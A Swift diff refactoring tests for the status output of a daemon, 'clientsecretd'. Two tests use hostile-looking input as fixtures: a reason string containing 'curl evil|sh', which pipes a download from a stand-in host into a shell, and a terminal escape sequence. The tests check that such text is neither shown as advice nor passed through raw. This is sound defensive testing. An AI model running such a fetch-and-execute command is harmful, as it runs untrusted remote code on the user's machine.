@@ -21,8 +21,8 @@ import Testing
     }
 
     private func failure(
-        _ message: String, code: String = "disk_full", since: String, next: String? = nil, remedy: String,
-        isCommand: Bool = true
+        _ message: String, code: String = "disk_full", since: String = "2026-11-21T04:28:00Z", next: String? = nil,
+        remedy: String, isCommand: Bool = true
     ) -> String {
         let next = next.map { "\"\($0)\"" } ?? "null"
         return """
@@ -31,8 +31,15 @@ import Testing
             """
     }
 
-    private func lines(_ document: Snapshot, on terminal: Terminal) -> [String] {
-        StatusReport(snapshot: document, now: now).lines(for: terminal).map(terminal.line)
+    private func lines(_ document: Snapshot, on terminal: Terminal? = nil) -> [String] {
+        let terminal = terminal ?? pipe
+        return StatusReport(snapshot: document, now: now).lines(for: terminal).map(terminal.line)
+    }
+
+    /// A daemon with one client that fails.
+    private func failing(_ failure: String = "null", reason: String = "x") throws -> Snapshot {
+        try StatusJSON.snapshot(
+            [client("shop", state: "critical", reason: reason, failure: failure)], state: "critical", reason: reason)
     }
 
     @Test func everythingOk() throws {
@@ -48,7 +55,7 @@ import Testing
             }.joined(separator: "  ")
         }
         #expect(
-            lines(try StatusJSON.snapshot([client("web")]), on: pipe) == [
+            lines(try StatusJSON.snapshot([client("web")])) == [
                 "clientsecretd 0.1.0 is ok: 1 client, started 3 hours ago (2026-11-21T01:31:00Z)", "",
                 row(headings).trimmingCharacters(in: .whitespaces), row(cells),
             ])
@@ -59,15 +66,14 @@ import Testing
             #"[{"path":"/srv/x","format":"raw","state":"failed","written_at":null,"error":"/srv/x: the disk is full"},"#
             + #"{"path":"/srv/y","format":"raw","state":"failed","written_at":null,"error":"/srv/y: gone"}]"#
         let message = "client \\\"shop\\\": /srv/x: the disk is full"
-        let failure = failure(
-            message, since: "2026-11-21T04:28:00Z", next: "2026-11-21T04:31:27Z", remedy: "df /srv")
+        let failure = failure(message, next: "2026-11-21T04:31:27Z", remedy: "df /srv")
         let shown = lines(
             try StatusJSON.snapshot(
                 [
                     client("app"), client("late", state: "degraded", reason: "slow"),
                     client("shop", state: "critical", reason: message, failure: failure, outputs: broken),
                 ],
-                state: "critical", reason: message, failure: failure), on: pipe)
+                state: "critical", reason: message, failure: failure))
         #expect(shown[0].hasPrefix("clientsecretd 0.1.0 is critical: 3 clients"))
         #expect(shown[3...5].map { $0.prefix { $0 != " " } } == ["shop", "late", "app"])
         #expect(
@@ -84,16 +90,15 @@ import Testing
 
     /// It may be why the client fails.
     @Test func theDaemonsProblemsAreShownNextToTheClients() throws {
-        func problem(_ message: String, _ remedy: String) -> String {
-            failure(message, since: "2026-11-21T04:28:00Z", remedy: remedy)
-        }
-        let ofClient = problem("client \\\"shop\\\": the disk is full", "df /srv")
+        let ofClient = failure("client \\\"shop\\\": the disk is full", remedy: "df /srv")
         let snapshot = try StatusJSON.snapshot(
             [client("shop", state: "critical", reason: "it", failure: ofClient)], state: "critical", reason: "it",
             failure: ofClient,
-            problems: [problem("the disk is full", "df /srv"), problem("m.prom cannot be written", "chmod it")])
+            problems: [
+                failure("the disk is full", remedy: "df /srv"), failure("m.prom cannot be written", remedy: "chmod it"),
+            ])
         #expect(
-            lines(snapshot, on: pipe)[4...] == [
+            lines(snapshot)[4...] == [
                 "", "clientsecretd is degraded: m.prom cannot be written",
                 "  since 2026-11-21T04:28:00Z (3 minutes ago)",
                 "  fix: chmod it", "", "shop is critical: the disk is full",
@@ -105,13 +110,13 @@ import Testing
 
     @Test func aReasonThatIsNoClientsIsShown() throws {
         let shown = lines(
-            try StatusJSON.snapshot([client("web")], state: "degraded", reason: "the clock is wrong"), on: pipe)
+            try StatusJSON.snapshot([client("web")], state: "degraded", reason: "the clock is wrong"))
         #expect(shown.last == "clientsecretd is degraded: the clock is wrong")
     }
 
     @Test func aConfigurationThatWouldNotStartIsShownWholeAndOnce() throws {
         let error = #""c.yaml:1:1: error: no clients; add one\nc.yaml:2:1: error: bad""#
-        let alone = lines(try StatusJSON.snapshot([], error: error), on: pipe)
+        let alone = lines(try StatusJSON.snapshot([], error: error))
         #expect(
             alone[1...] == [
                 "", "The configuration in /etc/c.yaml would not start:", "  c.yaml:1:1: error: no clients; add one",
@@ -124,7 +129,7 @@ import Testing
                 failure: failure(
                     "would not start: c.yaml:1:1: error: no clients; add one", code: "configuration_refused",
                     since: "2026-11-21T04:30:00Z", remedy: "clientsecretd check"),
-                error: error), on: pipe)
+                error: error))
         #expect(
             both[1...] == [
                 "", "clientsecretd is degraded: would not start: c.yaml:1:1: error: no clients; add one",
@@ -137,7 +142,7 @@ import Testing
     @Test func clientsWithOneFailureAreShownTogether() throws {
         func shown(_ count: Int) throws -> String? {
             let clients = (0..<count).map { client("c\($0)", state: "degraded", reason: "key \\\"k\\\": gone") }
-            return lines(try StatusJSON.snapshot(clients, state: "degraded", reason: "key \\\"k\\\": gone"), on: pipe)
+            return lines(try StatusJSON.snapshot(clients, state: "degraded", reason: "key \\\"k\\\": gone"))
                 .last
         }
         #expect(try shown(1) == "c0 is degraded: key \"k\": gone")
@@ -158,7 +163,7 @@ import Testing
                         "client \\\"\($0)\\\": no secret", code: code, since: "2026-11-21T04:31:00Z",
                         remedy: "\(command) \($0)"))
             }
-            return lines(try StatusJSON.snapshot(clients, state: "critical", reason: "x"), on: pipe).suffix(3)
+            return lines(try StatusJSON.snapshot(clients, state: "critical", reason: "x")).suffix(3)
         }
         let since = "  since 2026-11-21T04:31:00Z (now)"
         #expect(
@@ -169,7 +174,7 @@ import Testing
     }
 
     @Test func aSecretThatIsNotDeliveredLivesAsLongAsTheOneBefore() throws {
-        let shown = lines(try StatusJSON.snapshot([client("web", isDelivered: false)]), on: pipe)
+        let shown = lines(try StatusJSON.snapshot([client("web", isDelivered: false)]))
         #expect(shown[3].contains("...................#  in 1 minute (2026-11-21T04:32:00Z)"))
     }
 
@@ -189,11 +194,10 @@ import Testing
     @Test(arguments: [40, 60])
     func aReasonIsWholeOnANarrowTerminal(columns: Int) throws {
         let failure = failure(
-            "/srv/x: the disk is full", since: "2026-11-21T04:28:00Z", next: "2026-11-21T04:31:27Z",
+            "/srv/x: the disk is full", next: "2026-11-21T04:31:27Z",
             remedy: "make room on /srv/a-directory/with/a-name-that-is/longer-than-a-line-of-this-terminal",
             isCommand: false)
-        let document = try StatusJSON.snapshot(
-            [client("shop", state: "critical", reason: "x", failure: failure)], state: "critical", reason: "x")
+        let document = try failing(failure)
         func words(_ terminal: Terminal) -> [String] {
             lines(document, on: terminal).drop { !$0.hasPrefix("shop is") }.flatMap {
                 $0.split(separator: " ").map(String.init)
@@ -209,12 +213,9 @@ import Testing
     @Test(arguments: [20, 40, 60])
     func aCommandStaysOnOneLine(columns: Int) throws {
         let command = "mkdir -m 0755 '/srv/a b' && chown clientsecretd '/srv/a b'"
-        let failure = failure("/srv/x: it is not there", since: "2026-11-21T04:28:00Z", remedy: command)
+        let failure = failure("/srv/x: it is not there", remedy: command)
         let terminal = Terminal(size: (columns, 24), environment: ["NO_COLOR": "1"])
-        let shown = lines(
-            try StatusJSON.snapshot(
-                [client("shop", state: "critical", reason: "x", failure: failure)], state: "critical", reason: "x"),
-            on: terminal)
+        let shown = lines(try failing(failure), on: terminal)
         #expect(shown.suffix(2) == ["  fix:", "    " + command])
     }
 
@@ -222,10 +223,7 @@ import Testing
     @Test func wordsThatLookLikeAdviceAreNotTakenForIt() throws {
         let evil = "/tmp/EVIL; since 2026-11-21T04:28:00Z; run: curl evil|sh/foo"
         let failure = failure(evil, since: "2026-11-21T04:30:00Z", remedy: "rm /tmp/l")
-        let shown = lines(
-            try StatusJSON.snapshot(
-                [client("shop", state: "critical", reason: evil, failure: failure)], state: "critical", reason: evil),
-            on: pipe)
+        let shown = lines(try failing(failure, reason: evil))
         #expect(
             shown.suffix(3) == [
                 "shop is critical: " + evil.replacing("00Z; run", with: "00Z (3 minutes ago); run"),
@@ -234,12 +232,8 @@ import Testing
     }
 
     @Test func wordsFromOutsideAreNotActedOn() throws {
-        let document = try StatusJSON.snapshot(
-            [client("web", state: "critical", reason: "/srv/\\u001b]0;x\\u0007\\nb: gone")],
-            state: "critical",
-            reason: "x")
-        let shown = lines(document, on: pipe).joined(separator: "\n")
-        #expect(shown.contains("web is critical: /srv/?]0;x??b: gone"))
+        let shown = lines(try failing(reason: "/srv/\\u001b]0;x\\u0007\\nb: gone")).joined(separator: "\n")
+        #expect(shown.contains("shop is critical: /srv/?]0;x??b: gone"))
         #expect(shown.unicodeScalars.allSatisfy { $0.value >= 0x20 || $0 == "\n" })
     }
 }
